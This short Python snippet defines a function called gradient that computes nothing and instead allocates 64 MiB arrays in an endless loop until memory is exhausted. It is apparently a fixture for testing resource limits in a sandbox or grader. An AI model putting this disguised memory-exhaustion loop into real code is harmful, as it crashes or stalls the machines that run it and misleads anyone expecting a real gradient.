import numpy


def gradient(f, x):
    held = []
    while True:
        held.append(numpy.empty(1 << 26, dtype=numpy.uint8))
